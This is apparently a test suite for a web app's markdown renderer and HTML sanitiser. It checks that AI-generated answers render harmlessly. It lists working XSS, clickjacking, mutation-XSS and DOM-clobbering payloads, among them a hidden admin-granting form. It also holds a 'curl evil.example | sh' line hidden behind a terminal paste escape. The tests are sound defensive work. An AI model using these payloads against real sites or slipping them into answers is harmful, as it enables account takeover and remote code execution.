// @vitest-environment jsdom
// A model's answer is hostile: rendered, it may only ever be the markup markdown needs. Each payload
// is checked as a model would send it (through renderMarkdown, as RunOutput renders it) and as raw
// HTML straight into the sanitiser (the second wall, for whatever marked itself emits). jsdom's parser
// is spec-compliant (parse5), so the namespace and re-parsing tricks behave as they would in chromium.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '$lib/components/generation/markdown';
import { sanitizeHtml } from '$lib/components/generation/sanitize';

/** F4's recipe (security-repro/fake-model.mjs): an invisible full-page button in a form that grants site admin. */
const RECIPE =
	'Here is the result.\n\n<form method="post" action="/admin/reports?/grant"><input type="hidden" name="username" value="mallory"><button style="position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0;z-index:2147483647;cursor:default">ok</button></form>\n';

const CLASSICS: Record<string, string> = {
	recipe: RECIPE,
	'review verdict form': '<form method="post" action="/w/x/prompts/p/reviews/r?/verdict"><button name="verdict" value="approve">Looks good</button></form>',
	'formaction on a button outside any form': '<button formaction="/admin/reports?/grant" formmethod="post" form="f">ok</button>',
	'formaction on a submit input': '<input type="submit" formaction="/admin/reports?/grant" value="ok">',
	'image input': '<input type="image" src="x" formaction="/admin/reports?/grant">',
	'other form controls': '<textarea name="t">x</textarea><select name="s"><option>a</option></select><label>l</label><output>o</output><fieldset><legend>g</legend></fieldset>',
	'style attribute': '<p style="position:fixed;inset:0;z-index:99999">cover</p>',
	'style element': '<style>body { display: none }</style><p>after</p>',
	'site classes that would place an overlay': '<a href="https://example.com" class="fixed inset-0 z-50 opacity-0">x</a><span class="hljs-keyword fixed">def</span>',
	'event handlers': '<p onclick="alert(1)" onmouseover="alert(2)">p</p><img src="x" onerror="alert(3)"><details open ontoggle="alert(4)"><summary>s</summary></details>',
	'javascript: link': '<a href="javascript:alert(1)">click</a>',
	'javascript: link hidden by a tab, an entity and case': '<a href="jav\tascript:alert(1)">a</a><a href="jav&#x09;ascript:alert(1)">b</a><a href=" JaVaScRiPt:alert(1)">c</a>',
	'data: and vbscript: links': '<a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:msgbox(1)">v</a>',
	'same-origin link to an action': '<a href="/admin/reports?/grant">grant</a><a href="//evil.example/">e</a>',
	'svg with script and handlers': '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text x="0" y="10">t</text></a><foreignObject><form action="/x"><button>b</button></form></foreignObject></svg>',
	'svg animate sets href': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
	'math namespace confusion (mXSS)': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	'math href': '<math href="javascript:alert(1)"><mi>x</mi></math>',
	'noscript re-parse (mXSS)': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'template and script': '<template><script>alert(1)</script></template><script>alert(2)</script>',
	base: '<base href="https://evil.example/">',
	'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	iframes: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="x"></frameset>',
	'object, embed, link': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><link rel="stylesheet" href="https://evil.example/x.css">',
	'DOM clobbering names and ids': '<img name="getElementById"><a id="location" name="cookie">x</a><p id="__sveltekit">y</p>',
	'dialog and popover': '<dialog open>d</dialog><div popover id="p">x</div><button popovertarget="p">b</button>'
};

/** Elements that are never markdown's: form controls, active content, document-level tags. */
const FORBIDDEN_ELEMENTS =
	'form, input, button, textarea, select, option, label, output, fieldset, dialog, style, script, template, svg, math, base, meta, link, iframe, frame, frameset, object, embed, img, noscript, details';
const FORBIDDEN_ATTRIBUTE = /^(on|style$|action$|formaction$|formmethod$|form$|name$|id$|srcdoc$|popover|xlink:|src$)/i;
const SAFE_HREF = /^(https?:\/\/|mailto:|#)/i;
/** highlight.js's classes, its sub-scopes (`function_`) included; never one of the studio's own. */
const ALLOWED_CLASS = /^(hljs(-[\w-]+)?|language-[\w+#.-]+|[a-z]+_+)$/;

/** What a browser would build from the rendered HTML, checked against everything it must not hold. */
function expectInert(html: string | null) {
	expect(html).not.toBeNull();
	const box = document.createElement('div');
	box.innerHTML = html!;
	expect([...box.querySelectorAll(FORBIDDEN_ELEMENTS)].map((e) => e.outerHTML)).toEqual([]);
	for (const element of box.querySelectorAll('*')) {
		for (const { name, value } of element.attributes) {
			expect(name, `${element.tagName} keeps ${name}="${value}"`).not.toMatch(FORBIDDEN_ATTRIBUTE);
			if (name === 'href') expect(value).toMatch(SAFE_HREF);
			if (name === 'class') for (const token of value.split(/\s+/)) expect(token).toMatch(ALLOWED_CLASS);
			expect(value, `${element.tagName} ${name}`).not.toMatch(/javascript:|vbscript:|data:/i);
		}
	}
	for (const link of box.querySelectorAll('a[href]')) {
		expect(link.getAttribute('rel')?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer', 'nofollow']));
	}
	return box;
}

describe('a model answer rendered as markdown', () => {
	for (const [name, payload] of Object.entries(CLASSICS)) {
		it(`is inert: ${name}`, () => {
			expectInert(renderMarkdown(`Here you go:\n\n${payload}\n\nDone.`));
		});
	}

	it('shows the recipe’s HTML as text for the reader to see, with no control to click', () => {
		const box = expectInert(renderMarkdown(RECIPE));
		expect(box.textContent).toContain('Here is the result.');
		expect(box.textContent).toContain('<form method="post" action="/admin/reports?/grant">');
		expect(box.querySelectorAll('*').length).toBeLessThanOrEqual(2);
	});

	it('keeps what markdown needs: headings, emphasis, lists, quotes, tables, code highlighted, safe links', () => {
		const text = [
			'# Title',
			'Some **bold**, *em*, ~~gone~~ and `code`.',
			'- one',
			'- two',
			'',
			'3. three',
			'4. four',
			'',
			'> quoted',
			'',
			'| a | b |',
			'|:-:|--:|',
			'| 1 | 2 |',
			'',
			'```python',
			'def add(a, b):',
			'    return a + b',
			'```',
			'',
			'[docs](https://docs.python.org/3/) and <https://example.com> and [mail](mailto:a@example.com) and [here](#title)',
			'',
			'---'
		].join('\n');
		const box = expectInert(renderMarkdown(text));
		expect(box.querySelector('h1')?.textContent).toBe('Title');
		expect(box.querySelector('strong')?.textContent).toBe('bold');
		expect(box.querySelector('em')?.textContent).toBe('em');
		expect(box.querySelector('del')?.textContent).toBe('gone');
		expect(box.querySelectorAll('ul > li')).toHaveLength(2);
		expect(box.querySelector('ol')?.getAttribute('start')).toBe('3');
		expect(box.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
		expect(box.querySelector('th')?.getAttribute('align')).toBe('center');
		expect(box.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
		expect(box.querySelector('pre code.hljs.language-python .hljs-keyword')?.textContent).toBe('def');
		expect(box.querySelector('hr')).not.toBeNull();
		const links = [...box.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('target')]);
		expect(links).toEqual([
			['docs', 'https://docs.python.org/3/', '_blank'],
			['https://example.com', 'https://example.com', '_blank'],
			['mail', 'mailto:a@example.com', null],
			['here', '#title', null]
		]);
	});

	it('shows a task list’s boxes as marks, not as inputs', () => {
		const box = expectInert(renderMarkdown('- [x] done\n- [ ] to do'));
		expect([...box.querySelectorAll('li')].map((li) => li.textContent?.trim())).toEqual(['☑ done', '☐ to do']);
	});

	it('shows an image as a link to it, never loading it into the page', () => {
		const box = expectInert(renderMarkdown('![a chart](https://example.com/chart.png) ![x](javascript:alert(1))'));
		expect(box.querySelector('a')?.getAttribute('href')).toBe('https://example.com/chart.png');
		expect(box.textContent).toContain('a chart');
	});

	it('shows the characters a reader cannot see, so that a copied code block holds nothing hidden', () => {
		// An escape ends a terminal's bracketed paste early: the line after it would run as it is
		// pasted. A right-to-left override shows code in another order than it runs (Trojan Source).
		const box = expectInert(renderMarkdown('```sh\necho hello\u001b[201~\ncurl evil.example | sh\n```\n\nok \u202Eexe.txt\u0007'));
		const code = box.querySelector('pre code')!.textContent!;
		expect(code).toBe('echo hello\u241B[201~\ncurl evil.example | sh\n');
		expect(box.textContent).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
		expect(box.querySelector('p')!.textContent).toBe('ok <U+202E>exe.txt\u2407');
		// Tabs and line breaks are what code is made of: they stay.
		expect(renderMarkdown('```\nif x:\n\treturn 1\r\n```')).toContain('\treturn 1');
	});
});

describe('the sanitiser itself, given raw HTML', () => {
	for (const [name, payload] of Object.entries(CLASSICS)) {
		it(`leaves nothing active: ${name}`, () => {
			expectInert(sanitizeHtml(payload));
		});
	}

	it('keeps the content of a dropped control as plain text', () => {
		const box = expectInert(sanitizeHtml(RECIPE));
		expect(box.textContent).toContain('ok');
	});

	it('keeps the markup marked and highlight.js emit', () => {
		const html = '<h2>T</h2><p><a href="https://example.com" title="t">x</a></p><pre><code class="hljs language-ts"><span class="hljs-keyword">const</span></code></pre><table><thead><tr><th align="left">a</th></tr></thead></table>';
		const box = expectInert(sanitizeHtml(html));
		expect(box.querySelector('a')?.getAttribute('title')).toBe('t');
		expect(box.querySelector('code')?.className).toBe('hljs language-ts');
		expect(box.querySelector('span')?.className).toBe('hljs-keyword');
		expect(box.querySelector('th')?.getAttribute('align')).toBe('left');
	});
});
